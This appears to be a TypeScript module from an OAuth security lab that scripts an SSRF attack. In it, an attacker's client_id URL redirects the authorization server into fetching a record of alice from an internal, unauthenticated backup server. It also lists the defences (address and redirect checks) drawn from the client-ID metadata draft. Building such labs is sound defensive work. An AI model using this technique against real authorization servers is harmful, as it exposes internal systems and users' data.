import type { Step } from '../flows/step.js'
import { textResponse } from '../http/message.js'
import { codeRequest } from './code-request.js'
import type { Refusal } from './defence.js'
import { type Attack, planned } from './model.js'
import type { Scene } from './scene.js'

/** The path where the document of the attacker's client should be. A redirect is there. */
const DOCUMENT = '/client.json'

/** The attacker opens an authorization request whose client_id is an address. Returns the refusal of the server. */
async function* ask(
  scene: Scene,
  clientId: string,
  note: string,
): AsyncGenerator<Step, Refusal | undefined, void> {
  const { url } = codeRequest(scene, clientId, scene.catcher.address)
  const exchange = await scene.attacker.open(url)
  yield scene.step('authorization_request', { exchange, note, repeats: true })
  return scene.refusal(exchange)
}

/** The sentence about the requests that the inner server answered. */
function hitsNote(hits: number): string {
  if (hits === 0) return 'it answered no request'
  return `it answered ${hits === 1 ? '1 request' : `${hits} requests`}, each from the lab`
}

async function* run(scene: Scene): AsyncGenerator<Step, Refusal | undefined, void> {
  const { site, inner, step } = scene
  const { url, hits } = inner!
  site.serve(DOCUMENT, () => textResponse(302, '', [['location', url]]))
  yield step('lure', { url: `${site.url}${DOCUMENT}`, note: `it redirects to ${url}` })

  yield* ask(scene, `${site.url}${DOCUMENT}`, 'client_id is the address of the redirect')
  if (hits() > 0) {
    yield step('inner_request', { url, note: hitsNote(hits()) })
    return undefined
  }
  const refused = yield* ask(
    scene,
    url.replace('http:', 'https:'),
    'client_id has the name of the inner server',
  )
  yield step('inner_request', { url, note: hitsNote(hits()) })
  return refused
}

/** A document of a client that makes the authorization server read a server that only it reaches. */
export const innerFetch: Attack = {
  name: 'inner-fetch',
  title: 'a client_id that makes the server read an address inside its network',
  rule: 'draft-ietf-oauth-client-id-metadata-document-02 §8.6',
  weak: ['fetch-anything'],
  opened: { 'fetch-anything': { stolen: true } },
  starts: [
    'A client_id may be the address of a document, which the authorization server fetches for anyone who asks.',
    'In its network is a server with backups, which has no login because only machines there reach it.',
    'The attacker knows its name, and has a server of their own (A1 in RFC 9700 §3).',
  ],
  steals: 'a record of alice',
  defences: [
    { check: 'address', rule: 'draft-ietf-oauth-client-id-metadata-document-02 §8.6' },
    { check: 'redirect', rule: 'draft-ietf-oauth-client-id-metadata-document-02 §5' },
  ],
  wouldNotHelp: [
    'TLS: the attacker’s address has a good certificate, and the inner server needs none',
    'the rules of the document: it is fetched before anybody can read it',
    'a check of the name alone: a name says nothing about the address behind it',
  ],
  noWindow: 'alice takes no part in it',
  innerServer: true,
  running: { never: 'it needs a server in the network of the lab that nobody else reaches' },
  plan: [
    planned(
      'lure',
      ['attacker', 'authorization_server'],
      'an address of the attacker',
      'draft-ietf-oauth-client-id-metadata-document-02 §3',
      'The attacker makes an address that looks like the document of a client. It answers with a redirect.',
    ),
    planned(
      'authorization_request',
      ['attacker', 'authorization_server'],
      'GET /authorization',
      'draft-ietf-oauth-client-id-metadata-document-02 §5',
      'The attacker names it as client_id. The server fetches it, and must follow no redirect and call no inner address.',
    ),
    planned(
      'inner_request',
      ['authorization_server', 'resource_server'],
      'GET /records/alice',
      'draft-ietf-oauth-client-id-metadata-document-02 §8.6',
      'The inner server takes the request for one of its own network. It cannot know who wanted it.',
    ),
  ],
  run,
}
